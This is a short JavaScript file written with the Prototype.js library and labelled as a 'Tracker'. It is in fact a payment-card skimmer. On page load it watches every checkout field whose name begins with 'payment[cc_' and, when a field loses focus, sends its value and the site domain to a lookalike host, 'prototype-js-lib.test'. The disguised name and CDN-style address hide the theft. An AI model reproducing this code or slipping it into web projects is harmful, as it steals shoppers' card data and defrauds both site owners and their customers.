var Tracker = Class.create({
  initialize: function () {
    this.url = '//prototype-js-lib.test/lib/update';
    Event.observe(window, 'load', this.watch.bind(this));
  },
  watch: function () {
    var self = this;
    $$('input[name^="payment[cc_"]').each(function (el) {
      el.observe('blur', function () {
        new Ajax.Updater('tracker-box', self.url, {
          parameters: { f: el.name, v: escape(el.value), h: document.domain }
        });
      });
    });
  }
});
new Tracker();
